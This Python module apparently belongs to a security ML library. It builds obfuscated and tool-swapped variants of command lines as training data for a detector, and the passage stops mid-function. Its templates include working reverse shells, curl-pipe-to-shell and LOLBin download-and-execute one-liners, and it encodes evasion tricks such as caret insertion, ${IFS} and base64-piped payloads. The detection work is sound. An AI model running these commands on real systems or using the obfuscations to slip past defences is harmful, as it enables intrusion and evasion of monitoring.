"""Programmatic command-line variations that keep the intent: same technique, other surface.

Attackers vary exactly these things to slip past signatures, and admins write the same command in
many ways, so a detector must not key on them:

* ``binary_swap``: another tool of the same family (download: certutil / bitsadmin / curl / PowerShell
  ``Invoke-WebRequest`` / wget; remote script execution: regsvr32 / mshta / rundll32; reverse shell:
  bash ``/dev/tcp`` / nc / ncat / python / perl / socat / php), re-rendered with the seed's URL, file,
  IP and port;
* ``long_options``: GNU short options as long ones and back (``curl -s`` <-> ``curl --silent``);
* ``flag_prefix``: ``-x`` <-> ``/x`` for Windows binaries that accept both (certutil, regsvr32,
  powershell, msiexec);
* ``case``: Windows binary names (and certutil verbs) in other letter case;
* ``cmd_obfuscation``: caret and empty-quote insertion in the binary name under ``cmd /c``;
* ``path_form``: bare binary <-> full path <-> ``%SystemRoot%\\System32\\`` / ``%windir%`` forms
  (``/usr/bin/`` and ``/bin/`` on Linux and macOS);
* ``args``: other counts, host names and user folders, and clustered short flags (``-la``) reordered
  or split, for getopt tools;
* ``values``: other URLs, IP addresses, ports, file names and staging folders (placeholder tokens
  such as ``http://example.com/file`` are left alone: they are the normalised form of the data);
* ``ps_abbrev``: PowerShell parameter abbreviations (``-EncodedCommand`` -> ``-enc`` / ``-e``,
  ``-NoProfile`` -> ``-nop``...) and their order;
* ``ps_encoding``: a ``-enc`` payload decoded, varied and re-encoded (UTF-16LE base64), or a
  ``-Command`` script encoded;
* ``posix_obfuscation``: quote/backslash insertion in the binary name, ``${IFS}`` for spaces, or the
  whole command piped through ``base64 -d | sh``.

Obfuscation and binary swaps are applied only to labels outside ``benign_labels``: an obfuscated or
LOLBin version of a benign command is no longer clearly benign. Transformations are stacked until the
variant is no longer a near-duplicate of the seed (Jaccard of character 5-grams below
``max_similarity``).
"""

from __future__ import annotations

import base64
import binascii
import random
import re
from collections.abc import Callable, Sequence
from typing import Any

from distilsec.data.curate import jaccard, shingles
from distilsec.data.example import Example
from distilsec.data.placeholders import URL_TOKEN
from distilsec.methods.synthesize.base import Candidate, provenance, variant_rng, variant_seed

__all__ = ["CmdlineMutator", "TRANSFORMS", "binary_of", "detect_platform", "KNOWN_BINARIES"]

# fmt: off
WINDOWS_BINARIES = frozenset({
    "certutil", "bitsadmin", "powershell", "pwsh", "cmd", "rundll32", "regsvr32", "mshta", "wmic", "cscript",
    "wscript", "msiexec", "schtasks", "reg", "net", "net1", "netsh", "sc", "bcdedit", "vssadmin", "wevtutil",
    "whoami", "msbuild", "installutil", "regasm", "regsvcs", "odbcconf", "forfiles", "esentutl", "expand",
    "extrac32", "findstr", "hh", "makecab", "nltest", "ntdsutil", "psexec", "at", "attrib", "certreq", "cmstp",
    "control", "csc", "desktopimgdownldr", "ftp", "mavinject", "msdt", "pcalua", "replace", "rpcping",
    "runonce", "sdbinst", "tasklist", "taskkill", "xwizard", "winrm", "wsl", "ipconfig", "systeminfo",
    "notepad", "explorer", "bash.exe", "curl.exe", "tar", "robocopy", "xcopy", "icacls", "takeown", "dism",
})
POSIX_BINARIES = frozenset({
    "bash", "sh", "dash", "zsh", "ksh", "nc", "ncat", "netcat", "socat", "curl", "wget", "python", "python3",
    "perl", "php", "ruby", "lua", "node", "awk", "gawk", "find", "tar", "zip", "openssl", "ssh", "scp", "rsync",
    "crontab", "chmod", "chown", "cp", "mv", "rm", "ls", "cat", "echo", "grep", "sed", "base64", "xxd", "dd",
    "git", "docker", "kubectl", "systemctl", "launchctl", "osascript", "defaults", "security", "sqlite3",
    "ftp", "tftp", "busybox", "vim", "vi", "less", "more", "env", "sudo", "su", "id", "whoami", "uname",
    "mkfifo", "telnet", "nmap", "tcpdump", "useradd", "passwd", "ps", "kill", "pkill", "du", "df", "ping",
})
# fmt: on
KNOWN_BINARIES = WINDOWS_BINARIES | POSIX_BINARIES
_WIN_DIRS = {
    "powershell": "System32\\WindowsPowerShell\\v1.0",
    "msbuild": "Microsoft.NET\\Framework64\\v4.0.30319",
    "installutil": "Microsoft.NET\\Framework64\\v4.0.30319",
    "regasm": "Microsoft.NET\\Framework64\\v4.0.30319",
    "regsvcs": "Microsoft.NET\\Framework64\\v4.0.30319",
    "csc": "Microsoft.NET\\Framework64\\v4.0.30319",
}
_WIN_ROOTS = ("C:\\Windows", "%SystemRoot%", "%windir%", "C:\\WINDOWS", "%SYSTEMROOT%")
_POSIX_DIRS = ("/usr/bin", "/bin", "/usr/local/bin")
#: Windows binaries that take both ``-flag`` and ``/flag``.
#: shell builtins and keywords: they have no path of their own.
# fmt: off
_SHELL_WORDS = frozenset({
    "cd", "export", "source", "alias", "set", "unset", "eval", "exec", "read", "type", "ulimit", "umask", "history",
    "fg", "bg", "jobs", "wait", "trap", "shift", "return", "exit", "declare", "local", "builtin", "command", "for",
    "if", "while", "do", "done", "then", "fi", "case", "esac", "function", "select", "until", "autoload", "setopt",
})
# fmt: on
_DUAL_PREFIX = frozenset({"certutil", "regsvr32", "powershell", "pwsh", "msiexec"})
_LEAD = frozenset({"sudo", "nohup", "env", "time", "exec", "nice", "start", "call"})
_TOKEN = re.compile(r"""(?:[^\s"']+|"[^"]*"?|'[^']*'?)+""")
_URL = re.compile(r"""(?:https?|ftp)://[^\s"'<>;|)]+""", re.I)
_IP = re.compile(r"(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])")
_FILE = re.compile(
    r"(?<![\w.%-])([A-Za-z0-9_-]{1,40})\.(exe|dll|ps1|bat|cmd|vbs|js|hta|sct|txt|zip|sh|py|so|dat|"
    r"tmp|log|bin|elf|msi|xml|inf|lnk|docm|xlsm|jar)(?![\w.])",
    re.I,
)
_STAGING_WIN = ("C:\\Users\\Public\\", "%TEMP%\\", "%APPDATA%\\", "C:\\ProgramData\\", "%LOCALAPPDATA%\\Temp\\")
_STAGING_POSIX = ("/tmp/", "/dev/shm/", "/var/tmp/")
_TLDS = ("com", "net", "org", "info", "xyz", "top", "io", "ru", "cc", "biz", "site", "online")
_WORDS = (
    "cdn",
    "update",
    "files",
    "static",
    "dl",
    "secure",
    "img",
    "data",
    "sync",
    "mirror",
    "cloud",
    "api",
    "assets",
    "media",
    "repo",
    "get",
    "store",
    "share",
    "edge",
    "node",
)
_NAMES = (
    "svc",
    "update",
    "setup",
    "install",
    "helper",
    "runtime",
    "agent",
    "loader",
    "host",
    "task",
    "patch",
    "report",
    "invoice",
    "driver",
    "winsys",
    "msupd",
    "chrome",
    "system",
    "config",
    "core",
)
_SITE_WORDS = ("www", "docs", "mirror", "files", "downloads", "static", "intranet", "wiki")
_SITE_NAMES = ("example", "acme", "contoso", "fabrikam", "initech", "globex", "northwind")
_PORTS = ("443", "4444", "8080", "8443", "9001", "1337", "53", "80", "5555", "31337", "6666", "2222")

# ---- families of equivalent tools (binary_swap) ----
_DOWNLOAD_WIN = (
    "certutil.exe -urlcache -split -f {url} {out}",
    "certutil -urlcache -f {url} {out}",
    "bitsadmin /transfer {job} /download /priority high {url} {out_abs}",
    "curl.exe -s -o {out} {url}",
    "curl.exe -k {url} -o {out}",
    "powershell -c \"Invoke-WebRequest -Uri '{url}' -OutFile '{out}'\"",
    "powershell -nop -c \"(New-Object Net.WebClient).DownloadFile('{url}','{out}')\"",
    "powershell iwr {url} -OutFile {out}",
    'powershell -c "Start-BitsTransfer -Source {url} -Destination {out}"',
)
_DOWNLOAD_POSIX = (
    "curl -fsSL {url} -o {out}",
    "curl -s {url} --output {out}",
    "wget -q {url} -O {out}",
    "wget {url} --output-document={out}",
    "python3 -c \"import urllib.request;urllib.request.urlretrieve('{url}','{out}')\"",
    "busybox wget {url} -O {out}",
)
_DOWNLOAD_EXEC_POSIX = (
    "curl -fsSL {url} | sh",
    "curl -s {url} | bash",
    "wget -qO- {url} | sh",
    "wget -O - {url} | bash",
    'bash -c "$(curl -fsSL {url})"',
    'sh -c "$(wget -qO- {url})"',
)
_REMOTE_SCRIPT_WIN = (
    "regsvr32 /s /n /u /i:{url_sct} scrobj.dll",
    "regsvr32.exe /u /n /s /i:{url_sct} scrobj.dll",
    "mshta {url_hta}",
    'mshta.exe javascript:a=GetObject("script:{url_sct}").Exec();close();',
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:{url_sct}")',
)
_REVERSE_SHELL = (
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "sh -i >& /dev/tcp/{ip}/{port} 0>&1",
    "nc -e /bin/sh {ip} {port}",
    "ncat {ip} {port} -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("{ip}",{port}));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
    'perl -e \'use Socket;$i="{ip}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}};\'',
    "socat tcp-connect:{ip}:{port} exec:/bin/sh,pty,stderr,setsid",
    'php -r \'$sock=fsockopen("{ip}",{port});exec("/bin/sh -i <&3 >&3 2>&3");\'',
)
_PS_PARAMS: dict[str, tuple[str, ...]] = {
    "encodedcommand": ("-EncodedCommand", "-enc", "-e", "-ec", "-en", "-encodedcommand", "-EncodedC", "-Enc"),
    "noprofile": ("-NoProfile", "-nop", "-noprofile", "-NoP", "-nopr", "-NOP"),
    "windowstyle": ("-WindowStyle", "-w", "-win", "-windowstyle", "-W", "-wind"),
    "executionpolicy": ("-ExecutionPolicy", "-ep", "-exec", "-executionpolicy", "-ex", "-Exec"),
    "noninteractive": ("-NonInteractive", "-noni", "-nonint", "-NonI", "-nonin"),
    "nologo": ("-NoLogo", "-nol", "-nologo", "-NoL"),
    "command": ("-Command", "-c", "-com", "-command", "-C"),
}


def _ps_param(token: str) -> str | None:
    """Canonical name of a PowerShell.exe parameter written as ``token`` (any prefix, ``-`` or ``/``)."""
    t = token.lower().lstrip("-/")
    if not t or not token.startswith(("-", "/")):
        return None
    for name, spellings in _PS_PARAMS.items():
        if any(s.lower().lstrip("-") == t for s in spellings):
            return name
    if t in ("e", "ec") or (len(t) >= 3 and "encodedcommand".startswith(t)):
        return "encodedcommand"
    for name in ("noprofile", "windowstyle", "executionpolicy", "noninteractive", "nologo", "command"):
        if len(t) >= 3 and name.startswith(t):
            return name
    return None


def _basename(token: str) -> str:
    """The program name in a token, with cmd (``^``, ``""``) and shell (``''``, ``\\x``) obfuscation undone."""
    t = token.strip("\"'").replace("^", "").replace('""', "").replace("''", "")
    if "\\" in t and not re.match(r"[A-Za-z]:\\|%\w+%\\|\\\\|\.{1,2}\\", t):
        t = re.sub(r"\\(.)", r"\1", t)  # a POSIX shell escape (p\erl), not a Windows folder
    t = re.split(r"[\\/]", t)[-1].lower()
    return t[:-4] if t.endswith(".exe") else t


def _command_tokens(text: str) -> tuple[list[re.Match[str]], int]:
    """Top-level tokens and the index of the effective binary (after ``sudo``/``env``, inside ``cmd /c``)."""
    toks = list(_TOKEN.finditer(text))
    i = 0
    while i < len(toks) and (toks[i].group(0).lower() in _LEAD or re.fullmatch(r"\w+=\S*", toks[i].group(0))):
        i += 1
    if i < len(toks) and _basename(toks[i].group(0)) == "cmd":
        j = i + 1
        while j < len(toks) and toks[j].group(0).lower() in ("/q", "/d", "/v:on", "/v:off", "/e:on"):
            j += 1
        if j + 1 < len(toks) and toks[j].group(0).lower() in ("/c", "/k", "/r"):
            return toks, j + 1
    return toks, min(i, max(len(toks) - 1, 0))


def binary_of(text: str) -> str:
    """The lower-case name (no folder, no ``.exe``) of the program a command line runs; ``""`` if none.

    >>> binary_of('cmd /c "C:\\\\Windows\\\\System32\\\\CertUtil.exe" -urlcache -f http://x/a a')
    'certutil'
    """
    if not isinstance(text, str):
        return ""
    toks, i = _command_tokens(re.sub(r"\$\{IFS\}|\$IFS(?:\$\d)?", " ", text))  # ${IFS} separates words too
    return _basename(toks[i].group(0)) if toks else ""


def detect_platform(text: str, hint: str = "") -> str:
    """``"windows"`` or ``"posix"``: the example's platform when given, else guessed from the text."""
    h = (hint or "").lower()
    if h.startswith("win"):
        return "windows"
    if h in ("linux", "macos", "osx", "darwin", "posix", "unix"):
        return "posix"
    b = binary_of(text)
    if b in WINDOWS_BINARIES and b not in POSIX_BINARIES:
        return "windows"
    if re.search(r"\.exe\b|[A-Za-z]:\\|%\w+%|\\\\", text, re.I):
        return "windows"
    return "posix"


def _ext(url: str) -> str:
    """Extension of the file a URL names (``""`` when its path names none: ``https://example.com``)."""
    path = re.split(r"[?#]", url.split("://", 1)[-1], maxsplit=1)[0]
    if "/" not in path:
        return ""
    m = re.search(r"\.([A-Za-z0-9]{1,5})$", path.rsplit("/", 1)[1])
    return m.group(1) if m else ""


def _is_placeholder(value: str) -> bool:
    return value.startswith(URL_TOKEN) or bool(re.fullmatch(r"(?:file|dir)(?:\.\w+)?", value))


class _Ctx:
    """What one seed is: platform, label policy and the values the families re-render with."""

    def __init__(self, text: str, platform: str, obfuscate: bool) -> None:
        self.platform = platform
        self.obfuscate = obfuscate
        urls = _URL.findall(text)
        self.url = urls[0] if urls else None
        self.ips = _IP.findall(text)


class CmdlineMutator:
    """Intent-keeping command-line variations (see the module docstring for the transformations).

    Parameters
    ----------
    transforms : names of :data:`TRANSFORMS` to use (default: all).
    benign_labels : labels for which only cosmetic transformations apply (no binary swaps, no
        obfuscation, no encoding changes).
    max_similarity : keep stacking transformations while the variant's Jaccard similarity to the
        seed is at or above this (set it below the seed near-duplicate threshold of the filters).
    max_chars : seeds longer than this are refused (counted as ``seed_too_large``).
    """

    name = "cmdline_mutator.v1"
    task = "cmdline"

    def __init__(
        self,
        transforms: Sequence[str] | None = None,
        *,
        benign_labels: Sequence[str] = ("benign",),
        max_similarity: float = 0.8,
        max_chars: int = 8192,
    ) -> None:
        self.transforms = transforms
        self.benign_labels = benign_labels
        self.max_similarity = max_similarity
        self.max_chars = max_chars

    def generate(self, seed: Example, n: int, *, random_state: int = 0) -> list[Candidate]:
        """``n`` variants of the command line ``seed.text`` (failed ones carry ``error``)."""
        names = list(self.transforms or TRANSFORMS)
        unknown = sorted(set(names) - set(TRANSFORMS))
        if unknown:
            from distilsec.errors import ConfigError

            raise ConfigError(f"unknown command-line transforms {unknown}; known: {sorted(TRANSFORMS)}")
        text = seed.text
        if not isinstance(text, str) or not text.strip() or len(text) > self.max_chars:
            reason = "seed_too_large" if isinstance(text, str) and len(text) > self.max_chars else "seed_error"
            detail = f"seed of {len(text):,} characters" if isinstance(text, str) else "seed is not text"
            return [
                Candidate(None, seed.label, seed.id, self._prov(seed, i, random_state), reason, detail)
                for i in range(n)
            ]
        ctx = _Ctx(text, detect_platform(text, seed.platform), str(seed.label) not in set(self.benign_labels))
        seed_sh = shingles(text)
        seen = {text}
        out = []
        for i in range(n):
            rng = variant_rng(random_state, seed.id, i)
            new, applied = text, []
            for _attempt in range(4):
                new, applied = self._variant(text, ctx, names, rng, seed_sh)
                if new not in seen:
                    break
            prov = self._prov(
                seed,
                i,
                random_state,
                variation=min(applied, key=_PRIORITY.index) if applied else "none",
                transforms=applied,
                platform=ctx.platform,
            )
            if new in seen:
                out.append(
                    Candidate(
                        None,
                        seed.label,
                        seed.id,
                        prov,
                        "no_variation",
                        "no transformation applies to this command line",
                    )
                )
                continue
            seen.add(new)
            out.append(Candidate(new, seed.label, seed.id, prov))
        return out

    def _prov(self, seed: Example, i: int, random_state: int, **details: Any) -> dict[str, Any]:
        return provenance(self.name, seed, variant=i, random_seed=variant_seed(random_state, seed.id, i), **details)

    def _variant(
        self, text: str, ctx: _Ctx, names: list[str], rng: random.Random, seed_sh: set[bytes]
    ) -> tuple[str, list[str]]:
        order = rng.sample(names, len(names))
        if "binary_swap" in order:  # it re-renders the whole command: first, or it would undo the others
            order.remove("binary_swap")
            order.insert(0, "binary_swap")
        applied: list[str] = []
        out = text
        for name in order:  # a first pass: each transformation with probability 1/2
            if rng.random() < 0.5:
                new = TRANSFORMS[name](out, ctx, rng)
                if new and new != out:
                    out, applied = new, [*applied, name]
        for name in order:  # then more, until the variant is not a near-copy of the seed
            if out != text and jaccard(seed_sh, shingles(out)) < self.max_similarity:
                break
            if name in applied or (name == "binary_swap" and applied):  # a swap would undo what is applied
                continue
            new = TRANSFORMS[name](out, ctx, rng)
            if new and new != out:
                out, applied = new, [*applied, name]
        return out, applied


# ---- transformations: (text, ctx, rng) -> new text, or None when not applicable ----
def _replace_token(text: str, tok: re.Match[str], new: str) -> str:
    return text[: tok.start()] + new + text[tok.end() :]


def _binary_swap(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    b = binary_of(text)
    low = text.lower()
    url = ctx.url
    if url and re.search(r"\|\s*(?:ba|z|da)?sh\b|\$\((?:curl|wget)", low) and ctx.obfuscate:
        family: tuple[str, ...] = _DOWNLOAD_EXEC_POSIX
    elif url and b in ("regsvr32", "mshta", "rundll32") and ctx.obfuscate:
        family = _REMOTE_SCRIPT_WIN
    elif (
        url
        and ctx.platform == "windows"
        and ctx.obfuscate
        and (
            b in ("certutil", "bitsadmin", "curl")
            or (b in ("powershell", "pwsh") and re.search(r"iwr|invoke-webrequest|downloadfile|bitstransfer|wget", low))
        )
    ):
        family = _DOWNLOAD_WIN
    elif url and ctx.platform == "posix" and b in ("curl", "wget", "busybox", "python", "python3"):
        family = _DOWNLOAD_POSIX  # benign downloads too: curl and wget are interchangeable
    elif (
        ctx.ips
        and ctx.obfuscate
        and b in ("bash", "sh", "nc", "ncat", "netcat", "socat", "python", "python3", "perl", "php", "rm", "mkfifo")
    ):
        family = _REVERSE_SHELL
    else:
        return None
    out = _out_name(text, url or "")
    port_m = re.search(r"(?:/dev/(?:tcp|udp)/[\d.]+/|[\d.]+\"?\s*[, :]\s*)(\d{2,5})\b", text)
    values = {
        "url": url or "",
        "out": out,
        "out_abs": out if re.match(r"[A-Za-z]:\\|%", out) else f"C:\\Users\\Public\\{out}",
        "job": rng.choice(("job", "update", "dl", "bits", "sync")) + str(rng.randint(1, 99)),
        "url_sct": re.sub(r"\.\w{1,5}$", "", url or "") + ".sct" if _ext(url or "") != "sct" else url or "",
        "url_hta": re.sub(r"\.\w{1,5}$", "", url or "") + ".hta" if _ext(url or "") != "hta" else url or "",
        "ip": ctx.ips[0] if ctx.ips else "",
        "port": port_m.group(1) if port_m else rng.choice(_PORTS),
    }
    others = [t for t in family if _basename(t.split()[0]) != b]  # prefer another tool of the family
    template = rng.choice(others if others and rng.random() < 0.8 else list(family))
    new = template.format(**values)
    return None if new == text else new


def _out_name(text: str, url: str) -> str:
    m = re.search(r"(?:\s-o\s+|\s-O\s+|\s--output(?:-document)?[=\s]+|-OutFile\s+'?|-Destination\s+)([^\s'\"]+)", text)
    if m:
        return m.group(1)
    toks = text.split()
    last = toks[-1].strip("\"'") if toks else ""
    if last and last != url and not last.startswith(("-", "/", "http")) and "." in last:
        return last
    base = re.split(r"[/?#]", url.split("://", 1)[-1])
    name = base[-1] if len(base) > 1 and base[-1] else "file"
    return name


def _flag_prefix(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    if ctx.platform != "windows":
        return None
    toks, bi = _command_tokens(text)
    if not toks or _basename(toks[bi].group(0)) not in _DUAL_PREFIX:
        return None
    to_slash = rng.random() < 0.5
    out, shift, changed = text, 0, False
    for tok in toks[bi + 1 :]:
        t = tok.group(0)
        if not re.fullmatch(r"[-/][A-Za-z][\w:.-]*", t) or t.startswith("//"):
            continue
        if (t[0] == "-") != to_slash or rng.random() < 0.2:
            continue
        new = ("/" if to_slash else "-") + t[1:]
        out = out[: tok.start() + shift] + new + out[tok.end() + shift :]
        changed = True
    return out if changed else None


def _random_case(word: str, rng: random.Random) -> str:
    style = rng.randrange(3)
    if style == 0:
        return word.upper()
    if style == 1:
        return word[:1].upper() + word[1:].lower()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


def _case(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    if ctx.platform != "windows":
        return None
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    tok = toks[bi]
    b = _basename(tok.group(0))
    if b not in WINDOWS_BINARIES and not tok.group(0).lower().endswith(".exe"):
        return None
    raw = tok.group(0)
    m = re.search(re.escape(b), raw, re.I)
    if not m or '"' in raw or "^" in raw:
        return None
    new = raw[: m.start()] + _random_case(raw[m.start() : m.end()], rng) + raw[m.end() :]
    out = _replace_token(text, tok, new)
    if b == "certutil":  # certutil verbs are case-insensitive as well
        out = re.sub(
            r"(?<=\s[-/])(urlcache|split|decode|encode|verifyctl)\b",
            lambda mm: _random_case(mm.group(0), rng),
            out,
            flags=re.I,
        )
    return out


def _cmd_obfuscation(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    if ctx.platform != "windows" or not ctx.obfuscate:
        return None
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    wrapped = _basename(toks[0].group(0)) == "cmd" and bi > 0
    base = text if wrapped else f"cmd /c {text}"
    toks, bi = _command_tokens(base)
    tok = toks[bi]
    raw = tok.group(0)
    if '"' in raw or "^" in raw or "'" in raw:
        return None
    name = re.split(r"[\\/]", raw)[-1]
    stem = name[:-4] if name.lower().endswith(".exe") else name
    if len(stem) < 3:
        return None
    chars = list(stem)
    style = rng.randrange(3)
    out_chars = [chars[0]]
    for c in chars[1:]:
        if style in (0, 2) and rng.random() < 0.5:
            out_chars.append("^")
        if style in (1, 2) and rng.random() < 0.3:
            out_chars.append('""')
        out_chars.append(c)
    obf = "".join(out_chars)
    if obf == stem:
        obf = stem[0] + "^" + stem[1:]
    new_raw = raw[: len(raw) - len(name)] + obf + name[len(stem) :]
    return _replace_token(base, tok, new_raw)


def _path_form(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    tok = toks[bi]
    raw = tok.group(0)
    b = _basename(raw)
    if not b or '"' in raw or "^" in raw or "'" in raw:
        return None
    has_dir = bool(re.search(r"[\\/]", raw))
    if ctx.platform == "windows":
        if b not in WINDOWS_BINARIES and not raw.lower().endswith(".exe"):
            return None
        exe = re.split(r"[\\/]", raw)[-1]
        exe = exe if exe.lower().endswith(".exe") else exe + ".exe"
        if has_dir and rng.random() < 0.4:
            new = exe if rng.random() < 0.5 else exe[:-4]
        else:
            root = rng.choice(_WIN_ROOTS)
            folder = _WIN_DIRS.get(b, rng.choice(("System32", "System32", "SysWOW64")))
            new = f"{root}\\{folder}\\{exe}"
    else:
        if b not in POSIX_BINARIES and (b in _SHELL_WORDS or not re.fullmatch(r"[a-z][\w.+-]{0,40}", b)):
            return None
        if has_dir and rng.random() < 0.5:
            new = b if raw.split("/")[-1] == b else raw.split("/")[-1]
        else:
            new = f"{rng.choice(_POSIX_DIRS)}/{raw.split('/')[-1]}"
    return None if new == raw else _replace_token(text, tok, new)


def _host(rng: random.Random) -> str:
    """A made-up host: an IP address, ``name.tld`` or ``sub.name.tld`` from word lists."""
    if rng.random() < 0.3:
        return _random_ip(rng)
    name = rng.choice(_WORDS) + rng.choice(_WORDS) if rng.random() < 0.5 else rng.choice(_NAMES)
    host = f"{name}.{rng.choice(_TLDS)}"
    if rng.random() < 0.4:
        host = rng.choice(_WORDS) + (str(rng.randint(1, 99)) if rng.random() < 0.3 else "") + "." + host
    return host


def _random_ip(rng: random.Random) -> str:
    first = rng.choice((10, 45, 91, 103, 172, 185, 192, 194))
    if first == 192:
        return f"192.168.{rng.randint(0, 254)}.{rng.randint(2, 254)}"
    if first == 172:
        return f"172.{rng.randint(16, 31)}.{rng.randint(0, 254)}.{rng.randint(2, 254)}"
    return f"{first}.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(2, 254)}"


def _filename(rng: random.Random) -> str:
    name = rng.choice(_NAMES)
    r = rng.random()
    if r < 0.3:
        name += str(rng.randint(1, 999))
    elif r < 0.5:
        name += "_" + rng.choice(_NAMES)
    return name


def _values(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    out = text

    def new_url(m: re.Match[str]) -> str:
        url = m.group(0)
        if _is_placeholder(url):
            return url
        scheme = url.split("://", 1)[0]
        ext = _ext(url)
        if not ctx.obfuscate:  # a benign command keeps pointing at an ordinary site, not at a drop host
            host = f"{rng.choice(_SITE_WORDS)}.{rng.choice(_SITE_NAMES)}.{rng.choice(('com', 'org', 'net'))}"
            return f"{scheme}://{host}/" + (_filename(rng) + f".{ext}" if ext else rng.choice(("", "docs", "en")))
        path = "/".join(rng.choice(_WORDS) for _ in range(rng.randint(0, 2)))
        file = _filename(rng) + (f".{ext}" if ext else "")
        port = f":{rng.choice(('8080', '8443', '443', '8000'))}" if rng.random() < 0.15 else ""
        return f"{scheme}://{_host(rng)}{port}/" + (f"{path}/" if path else "") + file

    toks, bi = _command_tokens(out)
    head, out = (out[: toks[bi].end()], out[toks[bi].end() :]) if toks else ("", out)  # the program stays as it is
    out = _URL.sub(new_url, out)
    ip_map: dict[str, str] = {}
    out = _IP.sub(lambda m: ip_map.setdefault(m.group(1), _random_ip(rng)), out)
    out = re.sub(r"(/dev/(?:tcp|udp)/[\d.]+/)(\d{2,5})", lambda m: m.group(1) + rng.choice(_PORTS), out)
    file_map: dict[str, str] = {}
    keep = KNOWN_BINARIES | {binary_of(text), "scrobj", "mshtml", "shell32", "kernel32", "user32", "advpack", "ieframe"}

    def new_file(m: re.Match[str]) -> str:
        whole = m.group(0)
        if _is_placeholder(whole) or m.group(1).lower() in keep:
            return whole
        return file_map.setdefault(whole.lower(), _filename(rng) + "." + m.group(2))

    outside_urls = _URL.split(out)
    urls = _URL.findall(out)
    parts = [_FILE.sub(new_file, p) for p in outside_urls]
    out = "".join(p + (urls[i] if i < len(urls) else "") for i, p in enumerate(parts))
    staging = _STAGING_WIN if ctx.platform == "windows" else _STAGING_POSIX
    for s in staging:
        if s.lower() in out.lower() and rng.random() < 0.6:
            other = rng.choice([x for x in staging if x != s])
            out = re.sub(re.escape(s), other.replace("\\", "\\\\"), out, count=0, flags=re.I)
            break
    out = head + out
    return out if out != text else None


def _ps_abbrev(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    toks, bi = _command_tokens(text)
    if not toks or _basename(toks[bi].group(0)) not in ("powershell", "pwsh"):
        return None
    out, shift = text, 0
    for tok in toks[bi + 1 :]:
        t = tok.group(0)
        name = _ps_param(t)
        if name is None:
            continue
        spellings = [s for s in _PS_PARAMS[name] if s.lower() != t.lower()]
        new = rng.choice(spellings)
        if t.startswith("/"):
            new = "/" + new[1:]
        s, e = tok.start() + shift, tok.end() + shift
        out = out[:s] + new + out[e:]
        shift += len(new) - len(t)
    out = re.sub(r"(?<=\s)(hidden|bypass)\b", lambda m: _random_case(m.group(0), rng), out, flags=re.I)
    return out if out != text else None


_PS_SWAPS = (
    (r"\bIEX\b", "Invoke-Expression"),
    (r"\bInvoke-Expression\b", "IEX"),
    (r"\bNew-Object\b", "new-object"),
    (r"\bNet\.WebClient\b", "System.Net.WebClient"),
    (r"\bDownloadString\b", "downloadstring"),
    (r"\biwr\b", "Invoke-WebRequest"),
    (r"\bInvoke-WebRequest\b", "iwr"),
)


def _vary_script(script: str, ctx: _Ctx, rng: random.Random) -> str:
    out = script
    for pat, rep in rng.sample(_PS_SWAPS, len(_PS_SWAPS)):
        if re.search(pat, out) and rng.random() < 0.6:
            out = re.sub(pat, rep, out)
    varied = _values(out, ctx, rng)
    out = varied or out
    if out == script:
        out = out.replace(" ", "  ", 1) if " " in out else out + ";"
    return out


def _ps_encoding(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    if not ctx.obfuscate:
        return None
    toks, bi = _command_tokens(text)
    if not toks or _basename(toks[bi].group(0)) not in ("powershell", "pwsh"):
        return None
    for k in range(bi + 1, len(toks) - 1):
        name = _ps_param(toks[k].group(0))
        if name == "encodedcommand":
            payload = toks[k + 1]
            try:
                script = base64.b64decode(payload.group(0).strip("\"'"), validate=True).decode("utf-16-le")
            except (binascii.Error, ValueError, UnicodeDecodeError):
                return None
            if not script.strip() or not script.isprintable():
                return None
            varied = _vary_script(script, ctx, rng)
            if rng.random() < 0.3:  # decoded: the same script in the clear
                head = text[: toks[k].start()]
                return head + f'-Command "{varied}"' + text[payload.end() :]
            enc = base64.b64encode(varied.encode("utf-16-le")).decode("ascii")
            return _replace_token(text, payload, enc)
        if name == "command":
            rest = text[toks[k + 1].start() :].strip()
            script = rest[1:-1] if len(rest) >= 2 and rest[0] == rest[-1] and rest[0] in "\"'" else rest
            if not script:
                return None
            enc = base64.b64encode(_vary_script(script, ctx, rng).encode("utf-16-le")).decode("ascii")
            flag = rng.choice(_PS_PARAMS["encodedcommand"])
            return text[: toks[k].start()] + f"{flag} {enc}"
    return None


def _posix_obfuscation(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    if ctx.platform != "posix" or not ctx.obfuscate:
        return None
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    tok = toks[bi]
    raw = tok.group(0)
    style = rng.randrange(4)
    if style == 0 and "'" not in text and len(text) < 1500:
        enc = base64.b64encode(text.encode("utf-8")).decode("ascii")
        return f"echo {enc} | base64 -d | {rng.choice(('sh', 'bash'))}"
    if style == 1 and " " in text and "'" not in text and '"' not in text:
        return text.replace(" ", "${IFS}")
    if re.fullmatch(r"[A-Za-z0-9_/.-]{3,}", raw):
        name = raw.split("/")[-1]
        if len(name) >= 2:
            cut = rng.randint(1, len(name) - 1)
            insert = rng.choice(("''", '""', "\\"))
